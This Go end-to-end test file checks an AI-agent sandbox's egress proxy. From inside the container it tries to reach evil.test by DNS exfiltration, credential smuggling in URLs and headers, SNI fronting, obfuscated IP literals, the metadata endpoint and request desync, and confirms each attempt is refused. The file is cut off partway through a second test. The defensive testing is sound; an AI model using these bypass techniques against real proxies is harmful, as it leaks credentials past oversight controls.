// Package egress holds the adversarial scenarios of the egress sidecar, the
// bottle's only way out: from inside a real agent container, against the
// real sidecar and fixture upstreams on a network the test made, each case
// tries to get somewhere it should not (or somewhere it should), and the
// test checks the agent's view, the decision log on the host, and the
// upstreams' own records of what reached them.
package egress

import (
	"bufio"
	"context"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/netip"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/claude-bottle/claude-bottle/e2e/e2etest"
	"github.com/claude-bottle/claude-bottle/internal/audit"
	"github.com/claude-bottle/claude-bottle/internal/docker"
	egresspkg "github.com/claude-bottle/claude-bottle/internal/egress"
	"github.com/claude-bottle/claude-bottle/internal/stage"
)

// world is a test's fixture "internet": one internal network holding an
// upstream for each of allowed.test, evil.test and other.test.
type world struct {
	net                  string
	allowed, evil, other string // container ids
	allowedIP            string
}

func newWorld(t *testing.T, c *docker.Client) *world {
	t.Helper()
	img := e2etest.GoImage(t, c, "egress-upstream")
	w := &world{net: e2etest.Network(t, c)}
	start := func(name string) string {
		return e2etest.Start(t, c, docker.ContainerSpec{
			Image: img, Network: w.net, Aliases: []string{name + ".test"},
			Env: []string{"FIXTURE_NAME=" + name},
		})
	}
	w.allowed, w.evil, w.other = start("allowed"), start("evil"), start("other")
	for name, id := range map[string]string{"allowed": w.allowed, "evil": w.evil, "other": w.other} {
		waitLog(t, c, id, "ready "+name)
	}
	info, err := c.InspectContainer(context.Background(), w.allowed)
	if err != nil || info.IPs[w.net] == "" {
		t.Fatalf("fixture address: %v %+v", err, info)
	}
	w.allowedIP = info.IPs[w.net]
	return w
}

// waitLog polls a fixture's output until it holds want.
func waitLog(t *testing.T, c *docker.Client, id, want string) {
	t.Helper()
	deadline := time.Now().Add(30 * time.Second)
	for {
		b, err := c.Logs(context.Background(), id)
		if err == nil && strings.Contains(string(b), want) {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("fixture %s never said %q (%v): %s", id, want, err, b)
		}
		time.Sleep(50 * time.Millisecond)
	}
}

func fixtureLines(t *testing.T, c *docker.Client, id string) []string {
	t.Helper()
	b, err := c.Logs(context.Background(), id)
	if err != nil {
		t.Fatalf("fixture logs: %v", err)
	}
	return strings.Split(strings.TrimSpace(string(b)), "\n")
}

// readLog reads an instance's egress decision log from the host.
func readLog(t *testing.T, state, inst string) ([]audit.Event, string) {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(stage.LogDir(state, inst), "egress.jsonl"))
	if err != nil {
		t.Fatalf("egress log: %v", err)
	}
	var evs []audit.Event
	for _, line := range strings.Split(strings.TrimSpace(string(b)), "\n") {
		var ev audit.Event
		if err := json.Unmarshal([]byte(line), &ev); err != nil {
			t.Fatalf("egress log line %q: %v", line, err)
		}
		evs = append(evs, ev)
	}
	return evs, string(b)
}

// The shell helpers every agent script starts with. Each case prints one
// line, "case NAME OUTCOME":
//
//	hc ARGS  curl through the proxy variables: code=, connect= (the CONNECT
//	         answer), exit=, body= (flattened)
//	rq REQ...  raw bytes to egress:3128 (Python escapes: \r\n, \xNN), for
//	         request targets curl would normalize; several pieces go 0.3 s
//	         apart on one connection: code= (the first answer's) body=
//	         (after the first head) codes=200,403 (every status line)
//	tl HOST:PORT OPENSSL-ARGS  a TLS handshake through a CONNECT tunnel:
//	         tls=established or tls=refused
//	dn NAME  a DNS lookup with the agent's own resolver: dns=resolved|failed
const helpers = `
cat > /tmp/raw.py <<'PY'
import codecs, re, socket, sys, time
s = socket.create_connection(('egress', 3128), timeout=10)
for i, piece in enumerate(sys.argv[1:]):
    if i:
        time.sleep(0.3)
    try:
        s.sendall(codecs.decode(piece, 'unicode_escape').encode('latin-1'))
    except Exception:
        break
data = b''
try:
    while True:
        b = s.recv(65536)
        if not b:
            break
        data += b
except Exception:
    pass
head, _, body = data.partition(b'\r\n\r\n')
code = head.split(b' ')[1].decode() if head.startswith(b'HTTP/') else 'none'
codes = ','.join(c.decode() for c in re.findall(rb'HTTP/1\.1 (\d\d\d)', data))
print('code=%s body=%s codes=%s' % (code, ' '.join(body.decode('latin-1').split())[:400], codes))
PY
say() { printf 'case %s %s\n' "$1" "$2"; }
hc() {
  w=$(curl -s -m 10 -o /tmp/body -w 'code=%{http_code} connect=%{http_connect}' "$@"); rc=$?
  printf '%s exit=%s body=%s' "$w" "$rc" "$(head -c 400 /tmp/body 2>/dev/null | tr -s '\r\n\t' '   ')"
  rm -f /tmp/body
}
rq() { python3 /tmp/raw.py "$@"; }
tl() {
  t=$1; shift
  o=$(echo | timeout 15 openssl s_client -proxy egress:3128 -connect "$t" "$@" 2>&1)
  case "$o" in *"BEGIN CERTIFICATE"*) printf tls=established;; *) printf tls=refused;; esac
}
dn() { if getent hosts "$1" >/dev/null 2>&1; then printf dns=resolved; else printf dns=failed; fi; }
`

// denyLine is a refusal line the decision log must hold for a case.
type denyLine struct {
	// orError also accepts verdict "error" (allowed, but not reachable).
	orError bool
	kind    string
	host    string // "" with noHost: the field must be absent
	noHost  bool
	port    int
	reason  string // prefix
	detail  string // substring
}

func (d denyLine) matches(ev audit.Event) bool {
	if !(ev.Verdict == "deny" || d.orError && ev.Verdict == "error") || ev.Kind != d.kind || !strings.HasPrefix(ev.Reason, d.reason) || !strings.Contains(ev.Detail, d.detail) {
		return false
	}
	if d.noHost && ev.Host != "" || d.host != "" && ev.Host != d.host {
		return false
	}
	return d.port == 0 || ev.Port == d.port
}

type egCase struct {
	name string
	// cmd prints the outcome, one line, through the helpers.
	cmd  string
	want []string
	// oneOf: the outcome holds at least one of these.
	oneOf []string
	not   []string
	deny  *denyLine
}

func rawConnect(target string) string {
	return fmt.Sprintf(`rq 'CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n'`, target, target)
}

// desync is a /healthz request whose body, a decoy head, is sent late,
// then the head second on the same connection.
func desync(second string) string {
	const decoy = `GET http://allowed.test:8080/desync HTTP/1.1\r\nHost: allowed.test:8080\r\n\r\n`
	n := len(strings.ReplaceAll(decoy, `\r\n`, "xx"))
	return fmt.Sprintf(`rq 'GET /healthz HTTP/1.1\r\nHost: egress\r\nContent-Length: %d\r\n\r\n' '%s' '%s'`, n, decoy, second)
}

func rawGet(target, host, extra string) string {
	return fmt.Sprintf(`rq 'GET %s HTTP/1.1\r\nHost: %s\r\n%s\r\n'`, target, host, extra)
}

// ipForms spells an IPv4 address every way some resolver or URL parser
// reads as that address.
func ipForms(ip string) map[string]string {
	a := netip.MustParseAddr(ip).As4()
	n := uint32(a[0])<<24 | uint32(a[1])<<16 | uint32(a[2])<<8 | uint32(a[3])
	return map[string]string{
		"dotted":    ip,
		"integer":   fmt.Sprint(n),
		"octal":     fmt.Sprintf("0%o.0%o.0%o.0%o", a[0], a[1], a[2], a[3]),
		"hex":       fmt.Sprintf("0x%08x", n),
		"hexdotted": fmt.Sprintf("0x%x.0x%x.0x%x.0x%x", a[0], a[1], a[2], a[3]),
		"short":     fmt.Sprintf("%d.%d", a[0], n&0xffffff),
		"mapped":    "::ffff:" + ip,
	}
}

func pctAll(s string, prefix string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		fmt.Fprintf(&b, "%s%02X", prefix, s[i])
	}
	return b.String()
}

const manifestAdversarial = `
agents:
  agent:
    bottle: box
bottles:
  box:
    egress:
      networks: [%s]
      allow:
        - host: allowed.test
          port: 8080
        - host: allowed.test
          port: 8443
        - host: allowed.test
          port: 443
        # Allowed names whose answers point inside: the egress container's
        # own loopback, and a sidecar on the bottle's network (not one the
        # manifest asked egress to join, so not in private_networks).
        - host: localhost
          port: 3128
        - host: cred-proxy
          port: 8080
    cred_proxy:
      routes:
        - name: api
          path: /api/
          upstream: https://api.canary.test
          credentials:
            - env: E2E_TOKEN
              header: Authorization
              format: "Bearer {token}"
`

// One bottle, every attack: each case's outcome inside the agent, its deny
// line in the decision log, and, from the upstreams' own records, that
// evil.test and other.test were never reached and no credential arrived.
func TestAdversarialEgress(t *testing.T) {
	c := e2etest.Engine(t)
	e2etest.Images(t)
	w := newWorld(t, c)
	e := e2etest.NewEnv(t, fmt.Sprintf(manifestAdversarial, w.net))
	inst := e2etest.Unique("cbt-egress")
	e.Vars["CLAUDE_BOTTLE_CONTAINER"] = inst
	rnd := strings.TrimPrefix(e2etest.Unique("x"), "x-")
	// All lowercase, like many real tokens; the canary also catches it in
	// another case (canary-header-name-other-case).
	token := "sk-canary-" + rnd + "c0ffee42"
	e.Vars["E2E_TOKEN"] = token

	ip := ipForms(w.allowedIP)
	b64 := base64.StdEncoding.EncodeToString([]byte(token))
	b64url := base64.RawURLEncoding.EncodeToString([]byte("label:" + token))
	hexTok := hex.EncodeToString([]byte(token))
	split := token[:6] + "." + token[6:] // "sk-can.ary-..."
	exfil := "dghllxnly3jldc1wbgfucw"    // base64 of a "secret", lowercased, as a label

	const hint = "ask with the supervise tool request_egress"
	canaryURL := func(detail string) *denyLine {
		return &denyLine{kind: "http", noHost: true, reason: "secret canary", detail: detail}
	}
	cases := []egCase{
		// What the bottle may reach, it reaches.
		{name: "allowed-https-connect", cmd: `hc -k https://allowed.test:8443/`,
			want: []string{"code=200", "connect=200", "body=upstream allowed reached as allowed.test:8443"}},
		{name: "allowed-plain-http", cmd: `hc http://allowed.test:8080/`,
			want: []string{"code=200", "body=upstream allowed reached as allowed.test:8080"}},
		{name: "allowed-hop-headers-stripped", cmd: `hc -H 'Proxy-Authorization: Basic Zm9vOmJhcg==' -H 'X-Keep: kept' http://allowed.test:8080/echo`,
			want: []string{"code=200", "X-Keep: kept"}, not: []string{"Proxy-Authorization", "X-Forwarded"}},
		{name: "allowed-websocket", cmd: rawGet("http://allowed.test:8080/ws", "allowed.test:8080", `Connection: Upgrade\r\nUpgrade: websocket\r\n`),
			want: []string{"code=101", "body=ws-hello from allowed"}},
		{name: "allowed-sni-match", cmd: `tl allowed.test:8443 -servername allowed.test`, want: []string{"tls=established"}},

		// Hosts and ports not in the allowlist.
		{name: "evil-https", cmd: `hc -k https://evil.test:8443/`, want: []string{"connect=403"}, not: []string{"upstream"},
			deny: &denyLine{kind: "connect", host: "evil.test", port: 8443, reason: "not in the allowlist"}},
		{name: "evil-connect-answer", cmd: rawConnect("evil.test:8443"),
			want: []string{"code=403", "refused CONNECT evil.test:8443: not in the allowlist.", hint},
			deny: &denyLine{kind: "connect", host: "evil.test", port: 8443, reason: "not in the allowlist"}},
		{name: "evil-http", cmd: `hc http://evil.test:8080/`,
			want: []string{"code=403", "refused GET evil.test:8080: not in the allowlist.", hint},
			deny: &denyLine{kind: "http", host: "evil.test", port: 8080, reason: "not in the allowlist"}},
		{name: "other-http", cmd: `hc http://other.test:8080/`, want: []string{"code=403", hint},
			deny: &denyLine{kind: "http", host: "other.test", port: 8080, reason: "not in the allowlist"}},
		{name: "wrong-port-http", cmd: `hc http://allowed.test:9999/`,
			want: []string{"code=403", "port not in the allowlist for this host", hint},
			deny: &denyLine{kind: "http", host: "allowed.test", port: 9999, reason: "port not in the allowlist for this host"}},
		{name: "wrong-port-connect", cmd: `hc -k https://allowed.test:9999/`, want: []string{"connect=403"},
			deny: &denyLine{kind: "connect", host: "allowed.test", port: 9999, reason: "port not in the allowlist for this host"}},
		{name: "websocket-refused-host", cmd: rawGet("http://evil.test:8080/ws", "evil.test:8080", `Connection: Upgrade\r\nUpgrade: websocket\r\n`),
			want: []string{"code=403", hint}, not: []string{"ws-hello"},
			deny: &denyLine{kind: "http", host: "evil.test", port: 8080, reason: "not in the allowlist"}},

		// Domain fronting: the TLS server name is not the CONNECT host.
		{name: "sni-mismatch-openssl", cmd: `tl allowed.test:8443 -servername evil.test`, want: []string{"tls=refused"},
			deny: &denyLine{kind: "connect", host: "allowed.test", port: 8443, reason: "sni mismatch", detail: `"evil.test"`}},
		{name: "sni-mismatch-curl-connect-to", cmd: `hc -k --connect-to other.test:8443:allowed.test:8443 https://other.test:8443/`,
			not:  []string{"code=200", "upstream"},
			deny: &denyLine{kind: "connect", host: "allowed.test", port: 8443, reason: "sni mismatch", detail: `"other.test"`}},
		{name: "sni-missing", cmd: `tl allowed.test:8443 -noservername`, want: []string{"tls=refused"},
			deny: &denyLine{kind: "connect", host: "allowed.test", port: 8443, reason: "sni mismatch", detail: `names ""`}},
		{name: "not-tls-on-443", cmd: `hc -p -x http://egress:3128 http://allowed.test:443/`,
			want: []string{"connect=200"}, not: []string{"code=200", "upstream"},
			deny: &denyLine{kind: "connect", host: "allowed.test", port: 443, reason: "not tls on port 443"}},

		// IP literals, every spelling, refused before any lookup or dial.
		{name: "ip-dotted-http", cmd: `hc http://` + ip["dotted"] + `:8080/`, want: []string{"code=403", "ip literal", hint},
			deny: &denyLine{kind: "http", host: ip["dotted"], port: 8080, reason: "ip literal"}},
		{name: "ip-dotted-connect", cmd: rawConnect(ip["dotted"] + ":8443"), want: []string{"code=403", "ip literal"},
			deny: &denyLine{kind: "connect", host: ip["dotted"], port: 8443, reason: "ip literal"}},
		{name: "ip-integer-connect", cmd: rawConnect(ip["integer"] + ":8443"), want: []string{"code=403", "ip literal"},
			deny: &denyLine{kind: "connect", host: ip["integer"], port: 8443, reason: "ip literal"}},
		{name: "ip-integer-http", cmd: rawGet("http://"+ip["integer"]+":8080/", ip["integer"]+":8080", ""), want: []string{"code=403", "ip literal"},
			deny: &denyLine{kind: "http", host: ip["integer"], port: 8080, reason: "ip literal"}},
		{name: "ip-octal-connect", cmd: rawConnect(ip["octal"] + ":8443"), want: []string{"code=403", "ip literal"},
			deny: &denyLine{kind: "connect", host: ip["octal"], port: 8443, reason: "ip literal"}},
		{name: "ip-hex-connect", cmd: rawConnect(ip["hex"] + ":8443"), want: []string{"code=403", "ip literal"},
			deny: &denyLine{kind: "connect", host: ip["hex"], port: 8443, reason: "ip literal"}},
		{name: "ip-hexdotted-http", cmd: rawGet("http://"+ip["hexdotted"]+":8080/", ip["hexdotted"]+":8080", ""), want: []string{"code=403", "ip literal"},
			deny: &denyLine{kind: "http", host: ip["hexdotted"], port: 8080, reason: "ip literal"}},
		{name: "ip-short-connect", cmd: rawConnect(ip["short"] + ":8443"), want: []string{"code=403", "ip literal"},
			deny: &denyLine{kind: "connect", host: ip["short"], port: 8443, reason: "ip literal"}},
		{name: "ip-v4-mapped-v6-connect", cmd: rawConnect("[" + ip["mapped"] + "]:8443"), want: []string{"code=403", "ip literal"},
			deny: &denyLine{kind: "connect", host: ip["mapped"], port: 8443, reason: "ip literal"}},
		{name: "ip-v6-loopback-connect", cmd: rawConnect("[::1]:3128"), want: []string{"code=403", "ip literal"},
			deny: &denyLine{kind: "connect", host: "::1", port: 3128, reason: "ip literal"}},
		{name: "ip-metadata-http", cmd: `hc http://169.254.169.254/latest/meta-data/`, want: []string{"code=403", "ip literal"},
			deny: &denyLine{kind: "http", host: "169.254.169.254", port: 80, reason: "ip literal"}},
		{name: "ip-metadata-connect", cmd: rawConnect("169.254.169.254:443"), want: []string{"code=403", "ip literal"},
			deny: &denyLine{kind: "connect", host: "169.254.169.254", port: 443, reason: "ip literal"}},

		// Allowed names whose DNS answers point inside.
		// localhost is allowed by a rule, and /etc/hosts maps it to loopback
		// inside the egress container. The proxy looks names up fully
		// qualified through DNS only, so today it does not resolve at all
		// (502, verdict error); were it resolved, the loopback check refuses
		// it (403). Either way the proxy's own loopback is not reached.
		{name: "name-resolves-loopback-http", cmd: rawGet("http://localhost:3128/healthz", "localhost:3128", ""),
			oneOf: []string{"code=403 body=claude-bottle egress: refused GET localhost:3128: resolves to a loopback address",
				"code=502 body=claude-bottle egress: cannot reach GET localhost:3128: resolve:"},
			not:  []string{"body=ok"},
			deny: &denyLine{orError: true, kind: "http", host: "localhost", port: 3128, reason: "resolve"}},
		{name: "name-resolves-loopback-connect", cmd: rawConnect("localhost:3128"),
			oneOf: []string{"code=403 body=claude-bottle egress: refused CONNECT localhost:3128: resolves to a loopback address",
				"code=502 body=claude-bottle egress: cannot reach CONNECT localhost:3128: resolve:"},
			deny: &denyLine{orError: true, kind: "connect", host: "localhost", port: 3128, reason: "resolve"}},
		{name: "name-resolves-private", cmd: rawGet("http://cred-proxy:8080/api/", "cred-proxy:8080", ""),
			want: []string{"code=403", "resolves to a private address"},
			deny: &denyLine{kind: "http", host: "cred-proxy", port: 8080, reason: "resolves to a private address"}},

		// Request smuggling through URL and header parsing.
		{name: "userinfo-raw", cmd: rawGet("http://allowed.test:8080@evil.test:8080/", "evil.test:8080", ""),
			want: []string{"code=403", "userinfo in url"},
			deny: &denyLine{kind: "http", reason: "userinfo in url"}},
		{name: "userinfo-curl", cmd: `hc http://allowed.test:8080@evil.test:8080/`, want: []string{"code=403"}, not: []string{"upstream"},
			deny: &denyLine{kind: "http", host: "evil.test", port: 8080}},
		{name: "host-header-mismatch", cmd: `hc -H 'Host: evil.test' http://allowed.test:8080/`,
			want: []string{"code=403", "host header mismatch"},
			deny: &denyLine{kind: "http", host: "allowed.test", port: 8080, reason: "host header mismatch"}},
		{name: "https-url-as-plain-request", cmd: rawGet("https://allowed.test:8443/", "allowed.test:8443", ""),
			want: []string{"code=403", "only http:// URLs are proxied"},
			deny: &denyLine{kind: "http", reason: "only http:// URLs are proxied"}},
		{name: "unicode-host", cmd: `rq 'CONNECT ex\xc3\xa4mple.test:8443 HTTP/1.1\r\nHost: example.test:8443\r\n\r\n'`, want: []string{"code=403", "invalid host name"},
			deny: &denyLine{kind: "connect", port: 8443, reason: "invalid host name"}},
		{name: "connect-missing-port", cmd: rawConnect("allowed.test"), want: []string{"code=403", "missing port"},
			deny: &denyLine{kind: "connect", reason: "missing port"}},

		// Around the proxy: no route, no resolver.
		{name: "direct-ip-no-proxy", cmd: `hc -m 3 --noproxy '*' http://` + ip["dotted"] + `:8080/`,
			want: []string{"code=000"}, not: []string{"exit=0 ", "upstream"}},
		{name: "direct-name-no-proxy", cmd: `hc --noproxy '*' http://allowed.test:8080/`,
			want: []string{"code=000", "exit=6 "},
			deny: &denyLine{kind: "dns", host: "allowed.test", reason: "the bottle resolves only its own names"}},
		{name: "dns-exfiltration", cmd: `dn ` + exfil + `.evil.test`, want: []string{"dns=failed"},
			deny: &denyLine{kind: "dns", host: exfil + ".evil.test", reason: "the bottle resolves only its own names"}},
		{name: "dns-exfiltration-canary", cmd: `dn ` + token + `.evil.test`, want: []string{"dns=failed"},
			deny: &denyLine{kind: "dns", noHost: true, reason: "the bottle resolves only its own names", detail: "query name withheld"}},

		// The secret canary: a credential on its way out to an allowed host.
		{name: "canary-query-raw", cmd: `hc 'http://allowed.test:8080/?q=` + token + `'`,
			want: []string{"code=403", "(secret canary)", "never send them yourself"}, not: []string{hint},
			deny: canaryURL("(raw) appeared in the URL")},
		{name: "canary-path-raw", cmd: `hc 'http://allowed.test:8080/x/` + token + `'`,
			want: []string{"code=403", "(secret canary)"}, deny: canaryURL("(raw) appeared in the URL")},
		{name: "canary-path-percent", cmd: `hc 'http://allowed.test:8080/` + pctAll(token, "%") + `'`,
			want: []string{"code=403", "(secret canary)"}, deny: canaryURL("(raw) appeared in the URL")},
		{name: "canary-query-double-percent", cmd: `hc 'http://allowed.test:8080/?q=` + pctAll(token, "%25") + `'`,
			want: []string{"code=403", "(secret canary)"}, deny: canaryURL("(raw) appeared in the URL")},
		{name: "canary-query-hex", cmd: `hc 'http://allowed.test:8080/?h=` + hexTok + `'`,
			want: []string{"code=403", "(secret canary)"}, deny: canaryURL("(hex) appeared in the URL")},
		// A stray "%" before the hex form, its last digit percent-encoded:
		// decoding first would read "%73" as "s" and lose the form (found by
		// fuzzing the log redactor, which decoded the same way).
		{name: "canary-query-hex-stray-percent", cmd: `hc 'http://allowed.test:8080/?h=%` + hexTok[:len(hexTok)-1] + fmt.Sprintf("%%%02x", hexTok[len(hexTok)-1]) + `'`,
			want: []string{"code=403", "(secret canary)"}, deny: canaryURL("(hex) appeared in the URL")},
		{name: "canary-query-base64url", cmd: `hc 'http://allowed.test:8080/?d=` + url.QueryEscape(b64url) + `'`,
			want: []string{"code=403", "(secret canary)"}, deny: canaryURL("appeared in the URL")},
		{name: "canary-header-base64", cmd: `hc -H 'X-Data: ` + b64 + `' http://allowed.test:8080/`,
			want: []string{"code=403", "(secret canary)"}, deny: canaryURL("(base64) appeared in the X-Data header")},
		{name: "canary-basic-auth", cmd: `hc -u 'agent:` + token + `' http://allowed.test:8080/`,
			want: []string{"code=403", "(secret canary)"}, deny: canaryURL("(base64) appeared in the Authorization header")},
		// The canary reads the raw Host header (net/http drops it from an
		// absolute-form request); neither the answer nor the log repeats it.
		{name: "canary-host-header", cmd: `hc -H 'Host: ` + token + `.allowed.test:8080' http://allowed.test:8080/`,
			want: []string{"code=403", "(secret canary)"}, not: []string{token},
			deny: canaryURL("(raw) appeared in the Host header")},
		// The canary reads the whole head: the method too, and header
		// names in any case.
		{name: "canary-method", cmd: `rq '` + token + ` http://allowed.test:8080/canary-method HTTP/1.1\r\nHost: allowed.test:8080\r\n\r\n'`,
			want: []string{"code=403", "(secret canary)"}, not: []string{token},
			deny: canaryURL("(raw) appeared in the method")},
		{name: "canary-header-name-other-case", cmd: `hc -H 'X-` + strings.ToUpper(token) + `: 1' http://allowed.test:8080/canary-name`,
			want: []string{"code=403", "(secret canary)"}, deny: canaryURL("appeared in a header name")},
		// The head that is checked is the head that is forwarded. A body
		// that arrives after the answer holds a harmless decoy head; the
		// real next head (a Host naming evil.test, a credential as its
		// method) must not be checked as the decoy and forwarded.
		{name: "desync-late-body-host", cmd: desync(`GET http://allowed.test:8080/desync HTTP/1.1\r\nHost: evil.test:8080\r\n\r\n`),
			want: []string{"codes=200"}, not: []string{"upstream allowed", "codes=200,200"}},
		{name: "desync-late-body-method", cmd: desync(token + ` http://allowed.test:8080/desync HTTP/1.1\r\nHost: allowed.test:8080\r\n\r\n`),
			want: []string{"codes=200"}, not: []string{"upstream allowed", "codes=200,200"}},
		{name: "pipelined-second-head", cmd: `rq 'GET http://allowed.test:8080/pipe1 HTTP/1.1\r\nHost: allowed.test:8080\r\n\r\n` +
			token + ` http://allowed.test:8080/pipe2 HTTP/1.1\r\nHost: allowed.test:8080\r\n\r\n'`,
			want: []string{"codes=200", "upstream allowed reached"}, not: []string{"codes=200,200"}},
		{name: "canary-connect-label", cmd: `hc -k https://` + token + `.allowed.test:8443/`, want: []string{"connect=403"},
			deny: &denyLine{kind: "connect", noHost: true, reason: "secret canary", detail: "(raw) appeared in the CONNECT target"}},
		{name: "canary-connect-split-labels", cmd: `hc -k https://` + split + `.allowed.test:8443/`, want: []string{"connect=403"},
			deny: &denyLine{kind: "connect", noHost: true, reason: "secret canary", detail: "(raw) appeared in the CONNECT target"}},
		{name: "canary-connect-answer", cmd: rawConnect(token + ".allowed.test:8443"),
			want: []string{"code=403", "refused CONNECT: a credential value appeared in the CONNECT target (secret canary)"}, not: []string{token},
			deny: &denyLine{kind: "connect", noHost: true, reason: "secret canary", detail: "(raw) appeared in the CONNECT target"}},
		{name: "canary-tls-server-name", cmd: `tl allowed.test:8443 -servername ` + token + `.allowed.test`, want: []string{"tls=refused"},
			deny: &denyLine{kind: "connect", host: "allowed.test", port: 8443, reason: "secret canary", detail: "in the tls server name"}},
	}

	var script strings.Builder
	script.WriteString(helpers)
	for _, k := range cases {
		fmt.Fprintf(&script, "say %s \"$(%s)\"\n", k.name, k.cmd)
	}
	script.WriteString("echo suite-done\n")

	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	r := e.Run(ctx, "run", "agent", "--", "sh", "-c", script.String())
	if r.Code != 0 || !strings.Contains(r.Stdout, "suite-done") {
		t.Fatalf("agent script: %s", r)
	}
	// The bottle is gone; its decision log stays on the host.
	e2etest.AssertGone(t, c, e.State, inst)
	lines := map[string]string{}
	for _, l := range strings.Split(r.Stdout, "\n") {
		if rest, ok := strings.CutPrefix(l, "case "); ok {
			name, out, _ := strings.Cut(rest, " ")
			lines[name] = out
		}
	}
	evs, raw := readLog(t, e.State, inst)

	// Every case: its outcome inside the agent and, for a refusal, its
	// deny line. Cases that expect the same line need that many of them.
	need := map[denyLine]int{}
	for _, k := range cases {
		out, ok := lines[k.name]
		if !ok {
			t.Errorf("%s: no outcome line", k.name)
			continue
		}
		for _, w := range k.want {
			if !strings.Contains(out, w) {
				t.Errorf("%s: outcome lacks %q: %s", k.name, w, out)
			}
		}
		if len(k.oneOf) > 0 {
			hit := false
			for _, o := range k.oneOf {
				hit = hit || strings.Contains(out, o)
			}
			if !hit {
				t.Errorf("%s: outcome holds none of %q: %s", k.name, k.oneOf, out)
			}
		}
		for _, n := range k.not {
			if strings.Contains(out, n) {
				t.Errorf("%s: outcome has %q: %s", k.name, n, out)
			}
		}
		if k.deny != nil {
			need[*k.deny]++
		}
	}
	for d, n := range need {
		got := 0
		for _, ev := range evs {
			if d.matches(ev) {
				got++
			}
		}
		if got < n {
			t.Errorf("decision log holds %d deny lines like %+v, want at least %d", got, d, n)
		}
	}
	if t.Failed() {
		t.Logf("agent output:\n%s\ndecision log:\n%s", r.Stdout, raw)
	}

	// The allowed requests are logged as allowed, with their rule.
	allowed := 0
	for _, ev := range evs {
		if ev.Verdict == "allow" && ev.Host == "allowed.test" && strings.HasPrefix(ev.Rule, "allowed.test:") {
			allowed++
		}
	}
	if allowed < 5 {
		t.Errorf("only %d allow lines for allowed.test", allowed)
	}

	// No form of the credential is in the log, nor in what `logs` shows
	// after the bottle is gone; the deny lines are.
	forms := map[string]string{
		"raw": token, "upper": strings.ToUpper(token), "hex": hexTok, "base64": b64,
		"base64-core": strings.TrimRight(b64, "=")[:len(token)*4/3-1], "percent": pctAll(token, "%"), "split": split,
	}
	for f, v := range forms {
		if strings.Contains(strings.ToLower(raw), strings.ToLower(v)) {
			t.Errorf("the decision log holds the credential (%s)", f)
		}
	}
	lr := e.Run(ctx, "logs", inst)
	if lr.Code != 0 {
		t.Fatalf("logs %s: %s", inst, lr)
	}
	for _, l := range strings.Split(strings.TrimSpace(raw), "\n") {
		if !strings.Contains(lr.Stdout, l) {
			t.Errorf("`logs %s` lacks the egress line %s", inst, l)
			break
		}
	}
	for _, want := range []string{`"reason":"not in the allowlist"`, `"reason":"secret canary"`, `"reason":"ip literal`, `"reason":"sni mismatch"`} {
		if !strings.Contains(lr.Stdout, want) {
			t.Errorf("`logs %s` lacks %s", inst, want)
		}
	}
	if strings.Contains(lr.Stdout, token) {
		t.Errorf("`logs %s` shows the credential", inst)
	}

	// The upstreams' own records: evil.test and other.test never saw a
	// connection; allowed.test saw no credential and no other server name.
	for name, id := range map[string]string{"evil": w.evil, "other": w.other} {
		for _, l := range fixtureLines(t, c, id) {
			if l != "ready "+name {
				t.Errorf("upstream %s.test was reached: %s", name, l)
			}
		}
	}
	al := fixtureLines(t, c, w.allowed)
	if len(al) == 0 || al[0] != "ready allowed" {
		t.Errorf("allowed.test's record is incomplete (starts %q)", al[0])
	}
	reqs := 0
	for _, l := range al {
		low := strings.ToLower(l)
		for f, v := range forms {
			if strings.Contains(low, strings.ToLower(v)) {
				t.Errorf("a credential (%s) reached allowed.test: %s", f, l)
			}
		}
		if strings.HasPrefix(l, "hello ") && l != `hello allowed sni="allowed.test"` {
			t.Errorf("allowed.test got a ClientHello for another name: %s", l)
		}
		if strings.Contains(l, `uri="/desync"`) || strings.Contains(l, `uri="/pipe2"`) || strings.Contains(l, "canary-") {
			t.Errorf("allowed.test got a request that should have been refused: %s", l)
		}
		if strings.HasPrefix(l, "req ") {
			reqs++
			if !strings.Contains(l, `host="allowed.test:`) || strings.Contains(l, "Proxy-Authorization") {
				t.Errorf("allowed.test got a request it should not have: %s", l)
			}
		}
	}
	if reqs < 4 {
		t.Errorf("allowed.test recorded only %d requests: %q", reqs, al)
	}
}

const manifestReload = `
agents:
  agent:
    bottle: box
bottles:
  box:
    egress:
      networks: [%s]
      allow:
        - host: allowed.test
          port: 8443
`

// A live policy change: the host adds other.test to a running bottle's
// policy.json; the agent can reach it within the reload period, and a
// tunnel opened before the change streams on intact across it.
func TestReloadKeepsTunnels(t *testing.T) {
	c := e2etest.Engine(t)
	e2etest.Images(t)
	w := newWorld(t, c)
	e := e2etest.NewEnv(t, fmt.Sprintf(manifestReload, w.net))
	inst := e2etest.Unique("cbt-egress")
	e.Vars["CLAUDE_BOTTLE_CONTAINER"] = inst

	script := helpers + `
say other-before "$(hc -k https://other.test:8443/)"
curl -sk -N -m 150 https://allowed.test:8443/slow >/tmp/slow 2>/dev/null &
slow=$!
i=0; until grep -q tick /tmp/slow; do i=$((i+1)); [ $i -gt 400 ] && echo slow-never-started && break; sleep 0.05; done
echo tunnel-open
read x
i=0; until [ "$(curl -sk -m 5 -o /dev/null -w '%{http_code}' https://other.test:8443/)" = 200 ]; do
  i=$((i+1)); [ $i -gt 120 ] && echo other-never-allowed && break; sleep 0.25
done
say other-after "$(hc -k https://other.test:8443/)"
grep -q end /tmp/slow && echo slow-ended-before-release
# The old tunnel still carries data after the reload.
n=$(grep -c '^tick ' /tmp/slow); i=0
until [ "$(grep -c '^tick ' /tmp/slow)" -gt "$n" ]; do i=$((i+1)); [ $i -gt 200 ] && echo slow-stalled && break; sleep 0.05; done
say release "$(hc -k https://allowed.test:8443/release)"
wait $slow; echo "slow-exit=$?"
echo "slow-ticks=$(grep -c '^tick ' /tmp/slow) last=$(tail -n 1 /tmp/slow)"
`
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	cmd := e.Command(ctx, "run", "agent", "--", "sh", "-c", script)
	stdin, _ := cmd.StdinPipe()
	stdout, _ := cmd.StdoutPipe()
	var stderr strings.Builder
	cmd.Stderr = &stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	var out strings.Builder
